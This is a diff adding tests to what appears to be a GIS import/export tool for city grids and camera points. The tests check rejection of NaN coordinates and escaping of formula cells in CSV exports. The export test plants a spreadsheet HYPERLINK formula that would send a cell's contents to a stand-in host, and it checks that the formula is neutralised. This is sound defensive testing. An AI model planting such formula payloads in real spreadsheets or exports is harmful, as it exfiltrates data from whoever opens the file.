@@ -628,3 +628,47 @@ def test_kunming_gcj02_import_shift_and_round_trip(db_backend, tmp_path, shared_
     assert np.concatenate(errors).max() < 1.0
     city = areas.read_gdf(db, level="city", scope=Scope.ALL).iloc[0]
     assert city.code == "530100"
+
+
+# --- NaN coordinates, formula cells, audited exports ----------------------------------------
+def test_nan_coordinates_are_rejected_with_a_reason_not_a_geos_traceback(tmp_path, city_db):
+    """A GeoJSON ring with NaN coordinates cannot be built by GEOS: that row is rejected."""
+    good = GRIDS[0][2].exterior.coords
+    doc = {"type": "FeatureCollection", "features": [
+        {"type": "Feature", "properties": {"code": "53010200100108", "name": "好"},
+         "geometry": shapely.geometry.mapping(box(102.62, 24.96, 102.63, 24.97))},
+        {"type": "Feature", "properties": {"code": "53010200100109", "name": "坏"},
+         "geometry": {"type": "Polygon", "coordinates": [[
+             ["NaN", good[0][1]], list(good[1]), list(good[2]), ["NaN", good[0][1]]]]}},
+    ]}  # fmt: skip
+    path = tmp_path / "nan.geojson"
+    path.write_text(json.dumps(doc).replace('"NaN"', "NaN"))
+    report = import_layer(city_db, "grids", path, progress=False)
+    assert report.imported == 1 and report.exit_code == 1, report.format()
+    reasons = {i.row: i.reason for i in report.rejected}
+    assert set(reasons) == {2} and "NaN" in reasons[2]
+    cams = tmp_path / "nan.csv"
+    cams.write_text("gb_id,name,cls,lon,lat\n53010200001320000021,甲,1,NaN,24.97\n"
+                    "53010200001320000022,乙,1,102.62,inf\n")  # fmt: skip
+    report = import_layer(city_db, "cameras", cams, progress=False)
+    assert report.imported == 0 and {i.row for i in report.rejected} == {1, 2}
+
+
+def test_csv_exports_neutralise_formula_cells_and_are_audited(tmp_path, city_db):
+    from layers.models import AuditEntry
+
+    with city_db.session() as s:
+        from layers.models import Grid
+
+        g = s.query(Grid).order_by(Grid.id).first()
+        g.name = '=HYPERLINK("http://x/?"&A1,"点我")'
+    out = tmp_path / "grids.csv"
+    export_layer(city_db, "grids", out)
+    text = out.read_text(encoding="utf-8-sig")
+    assert "'=HYPERLINK(" in text
+    with open(out, encoding="utf-8-sig") as fh:
+        names = [r["name"] for r in csv.DictReader(fh)]
+    assert not any(n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names)
+    with city_db.session() as s:
+        entry = s.query(AuditEntry).filter_by(action="layer.export").one()
+        assert entry.target == "grids" and entry.actor.startswith("cli:")
